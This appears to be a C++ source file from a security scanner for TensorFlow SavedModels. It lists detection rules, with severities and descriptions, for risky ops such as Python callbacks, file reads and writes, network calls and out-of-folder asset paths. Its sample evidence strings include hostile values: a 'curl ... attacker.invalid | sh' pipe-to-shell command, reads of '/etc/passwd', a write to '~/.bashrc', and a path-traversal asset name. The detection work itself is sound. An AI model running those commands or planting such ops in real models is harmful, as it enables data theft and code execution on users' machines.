#include "analyzers/tensorflow/rules.h"

#include <array>

namespace mg::tensorflow {
namespace {

constexpr std::array kRules = {
    RuleInfo{rule::kPythonCallback, Severity::kCritical, "Python callback op",
             "A node runs PyFunc, PyFuncStateless or EagerPyFunc (tf.py_func, "
             "tf.numpy_function, tf.py_function). The Python code is not in the file: the op "
             "holds a token ('pyfunc_0') and, each time the node runs, calls the Python "
             "function registered under that token in the serving process. Loading succeeds; "
             "running fails when nothing is registered, or calls whatever the loading program "
             "registered under that name. No legitimate exported model needs it: the graph "
             "cannot be served without Python.",
             "function __inference_preprocess_77: node 'EagerPyFunc' op EagerPyFunc; token "
             "'pyfunc_3'"},
    RuleInfo{rule::kFileRead, Severity::kHigh, "File read op",
             "A node reads files when it runs: ReadFile, MatchingFiles, the file readers and "
             "file datasets (TFRecord, text line, fixed length, CSV, LMDB, SQLite), "
             "LoadAndRemapMatrix, GenerateVocabRemapping, LoadDataset, or a vocabulary "
             "initialiser given a constant path outside the model folder. A model that reads "
             "files can leak them through its outputs. Medium for DecodeProtoV2/EncodeProto "
             "reading a descriptor file. The evidence names the file when it is a constant.",
             "function __inference_call_41: node 'ReadFile' op ReadFile; input 0 "
             "'ReadFile/filename:output:0' = '/etc/passwd'"},
    RuleInfo{rule::kFileWrite, Severity::kHigh, "File write op",
             "A node creates or appends to files when it runs: WriteFile, summary writers, "
             "dataset savers and snapshots, DatasetToTFRecord, PrintV2 with an output_stream "
             "'file://...', or a tfdbg op with a 'file://' debug URL.",
             "node 'WriteFile' op WriteFile; input 0 'WriteFile/filename:output:0' = "
             "'~/.bashrc'"},
    RuleInfo{rule::kNetwork, Severity::kHigh, "Network op",
             "A node contacts a service when it runs: the RPC ops (Rpc, TryRpc, RpcClient, "
             "RpcServer, RpcCall...), tf.data service datasets, Google Cloud configuration "
             "ops, BigQueryReader, or a tfdbg op with a 'grpc://' debug URL.",
             "node 'DebugIdentityV2' op DebugIdentityV2; debug_url "
             "'grpc://attacker.invalid:6064'"},
    RuleInfo{rule::kCheckpointFixedPath, Severity::kHigh, "Checkpoint op with a fixed path",
             "A Save/Restore/MergeV2Checkpoints op takes its checkpoint path from a constant "
             "rather than from the saver's filename input or a function argument. The saver "
             "never does that: the graph reads or overwrites the named files wherever it "
             "runs.",
             "function __inference__traced_restore_120: node 'RestoreV2' op RestoreV2; input "
             "0 'RestoreV2/prefix' = '/var/tmp/attacker/ckpt'"},
    RuleInfo{rule::kCheckpointOps, Severity::kInfo, "Checkpoint save/restore ops",
             "SaveV2, RestoreV2, MergeV2Checkpoints (and the TF 1 Save/Restore ops) read and "
             "write the variables/ checkpoint. Every SavedModel with variables has them, fed "
             "with the path the loader chooses, so they are counted, not flagged.",
             "4 checkpoint save/restore ops take their path from the saver's filename input."},
    RuleInfo{rule::kVocabularyFile, Severity::kLow, "Table initialised from a text file",
             "InitializeTableFromTextFile(V2) fills a lookup table from a text file, normally "
             "a vocabulary among the SavedModel's assets. High (TF-FILE-READ) when the path "
             "is a constant outside the model folder.",
             "node 'text_file_init/InitializeTableFromTextFileV2' op "
             "InitializeTableFromTextFileV2"},
    RuleInfo{rule::kMemoryRegion, Severity::kMedium, "Memory-mapped constant",
             "ImmutableConst maps a named region of a memmapped package file as a tensor; it "
             "only works with TensorFlow's memmapped file system and reads whatever region "
             "the name selects.",
             "node 'w' op ImmutableConst; memory_region_name 'memmapped_package://w'"},
    RuleInfo{rule::kDistributed, Severity::kLow, "Op that talks to other workers",
             "Collective ops, RemoteCall and _Send/_Recv exchange tensors with other devices "
             "or workers of a cluster. A model served on one machine does not need them.",
             "node 'CollectiveReduceV2' op CollectiveReduceV2"},
    RuleInfo{rule::kUrlString, Severity::kLow, "URL in an attr",
             "An attr value or string constant is a URL (scheme://...). Ops given such a "
             "string may read from or write to that location (TensorFlow's file system "
             "accepts gs://, s3://, hdfs:// and more).",
             "node 'WriteFile/contents' op Const; attr 'value' = 'curl -s "
             "http://attacker.invalid/x | sh'"},
    RuleInfo{rule::kAssetPath, Severity::kMedium, "Asset path outside the model",
             "An AssetFileDef names a file outside the SavedModel's assets folder (absolute, "
             "'..', or a URL). The loader feeds the joined path to the graph, which then "
             "reads that file.",
             "filename '../../../etc/passwd'"},
    RuleInfo{rule::kKerasUnanalysed, Severity::kMedium, "Keras metadata not analysed",
             "keras_metadata.pb, or a SavedUserObject's metadata in the object graph, holds "
             "the JSON configs Keras uses to rebuild the model, which can describe Lambda "
             "layers with marshalled Python code. This build has no Keras analyzer, so the "
             "file is `incomplete`.",
             "Keras metadata JSON ('<keras metadata node 0>') was found but this build has no "
             "Keras analyzer."},
    RuleInfo{rule::kSummary, Severity::kInfo, "Graph summary",
             "What was walked: meta graphs, nodes and library functions, with the tags and "
             "the TensorFlow version the SavedModel records.",
             "SavedModel with 1 meta graph(s): 9 nodes, 4 library functions."},
    RuleInfo{rule::kMalformed, Severity::kMedium, "Malformed protobuf",
             "The protobuf wire format is broken (a truncated field, a length past the end of "
             "its message, a wire type that does not exist). TensorFlow refuses such a file, "
             "but the rest of it was not analysed: the file is `incomplete`. Low, and not "
             "`incomplete`, for a fingerprint.pb whose fields are not a FingerprintDef's.",
             "The protobuf is malformed inside a MetaGraphDef: protobuf field 2 declares "
             "1099511627776 bytes, more than the message holds."},
    RuleInfo{rule::kLimit, Severity::kMedium, "Limit reached",
             "A limit of docs/tensorflow.md was reached (nodes, functions, meta graphs, attrs "
             "per node, nesting of function-valued attrs, Keras nodes). The rest was not "
             "analysed: the file is `incomplete`.",
             "Function-valued attrs are nested more than 16 levels deep."},
    RuleInfo{rule::kFindingsCapped, Severity::kInfo, "Findings capped",
             "Only the first 20 findings of each rule are listed for one file; this finding "
             "counts the rest.",
             "TF-URL-STRING: 35 more occurrences in this archive were not listed."},
};

}  // namespace

std::span<const RuleInfo> Rules() { return kRules; }

}  // namespace mg::tensorflow
